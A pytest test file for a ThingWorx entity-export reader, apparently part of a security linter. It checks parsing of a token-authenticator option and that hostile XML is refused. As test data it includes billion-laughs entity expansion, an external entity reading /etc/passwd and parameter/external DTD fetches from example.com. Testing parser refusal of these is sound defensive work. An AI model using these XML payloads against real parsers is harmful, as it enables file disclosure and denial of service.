"""ThingWorx entity exports: the TokenPropertyAuthenticator's option read in both export shapes, and hostile XML
refused the way defusedxml refuses it (no DTD, no entity expansion, no external entity, capped size and depth)."""

from __future__ import annotations

from pathlib import Path

import pytest

import emslint.read.entity_export as export_module
from emslint.read.entity_export import MAX_DEPTH, MAX_EXPORT_BYTES, read_entity_export, read_export_path

ROW = """<?xml version="1.0" encoding="UTF-8"?>
<Entities>
  <Authenticators>
    <Authenticator name="TokenPropertyAuthenticator" enabled="{enabled}">
      <ConfigurationTables><ConfigurationTable name="TokenConfiguration"><Rows><Row>
        <tokenPropertyName>token</tokenPropertyName>{field}
      </Row></Rows></ConfigurationTable></ConfigurationTables>
    </Authenticator>
  </Authenticators>
</Entities>
"""


def _export(field: str = "", enabled: str = "true") -> bytes:
    return ROW.format(field=field, enabled=enabled).encode()


@pytest.mark.parametrize(("field", "on", "explicit"), [
    ("<updateTokenOnFirstMessage>true</updateTokenOnFirstMessage>", True, True),
    ("<updateTokenOnFirstMessage> FALSE </updateTokenOnFirstMessage>", False, True),
    ('<FieldDefinition name="updateTokenOnFirstMessage" value="false"/>', False, True),
    ("<update_token_on_first_message>false</update_token_on_first_message>", False, True),
    ("", True, False),  # not in the export: PTC's default, selected
    ("<updateTokenOnFirstMessage>maybe</updateTokenOnFirstMessage>", True, False),
])
def test_the_option_is_read(field: str, on: bool, explicit: bool) -> None:
    export = read_entity_export(_export(field))
    assert export.issues == []
    (found,) = export.authenticators
    assert (found.update_token_on_first_message, found.explicit, found.enabled) == (on, explicit, True)
    assert (found.line, found.column) == (4, 5)


def test_other_entities_and_disabled_authenticators() -> None:
    assert read_entity_export(b"<Entities><Things><Thing name='TokenPropertyAuthenticator'/></Things></Entities>"
                              ).authenticators == []
    (found,) = read_entity_export(_export(enabled="false")).authenticators
    assert found.enabled is False


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<Entities>&lol3;TokenPropertyAuthenticator</Entities>
"""
EXTERNAL = b"""<?xml version="1.0"?>
<!DOCTYPE Entities [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<Entities><Authenticator name="TokenPropertyAuthenticator">&x;</Authenticator></Entities>
"""
PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE Entities [<!ENTITY % p SYSTEM "http://example.com/evil.dtd"> %p;]>
<Entities/>
"""
EXTERNAL_DTD = b'<?xml version="1.0"?>\n<!DOCTYPE Entities SYSTEM "http://example.com/x.dtd">\n<Entities/>\n'


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL, PARAMETER, EXTERNAL_DTD],
                         ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd"])
def test_document_types_are_refused(data: bytes) -> None:
    export = read_entity_export(data)
    assert export.authenticators == []
    (issue,) = export.issues
    assert issue.code == "entity-export-refused" and issue.line == 2


def test_undefined_entities_and_broken_xml_are_findings() -> None:
    for data in (b"<Entities>&x;</Entities>", b"<Entities>", b"\x00\x01garbage", b"", b"<a></b>"):
        (issue,) = read_entity_export(data).issues
        assert issue.code == "entity-export-invalid"


def test_depth_and_size_are_capped() -> None:
    deep = b"<a>" * (MAX_DEPTH + 1) + b"</a>" * (MAX_DEPTH + 1)
    assert [i.code for i in read_entity_export(deep).issues] == ["entity-export-unreadable"]
    assert read_entity_export(b"<a>" * MAX_DEPTH + b"</a>" * MAX_DEPTH).issues == []
    big = b"<a>" + b" " * MAX_EXPORT_BYTES + b"</a>"
    assert [i.code for i in read_entity_export(big).issues] == ["entity-export-unreadable"]


def test_values_are_not_kept_beyond_a_few_characters() -> None:
    """The streaming parse keeps at most a few characters of the one field it reads: no text piles up."""
    field = "<updateTokenOnFirstMessage>" + "x" * 100_000 + "</updateTokenOnFirstMessage>"
    (found,) = read_entity_export(_export(field)).authenticators
    assert not found.explicit


def test_files_beside_a_connector_are_read_only_when_they_name_the_authenticator(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    parsed: list[int] = []
    original = export_module.read_entity_export
    monkeypatch.setattr(export_module, "read_entity_export", lambda data: parsed.append(len(data)) or original(data))
    (tmp_path / "logback.xml").write_text("<configuration/>")
    assert read_export_path(tmp_path / "logback.xml", require_marker=True) is None
    assert parsed == []
    (tmp_path / "auth.xml").write_bytes(_export())
    export = read_export_path(tmp_path / "auth.xml", require_marker=True)
    assert export is not None and len(export.authenticators) == 1 and len(parsed) == 1
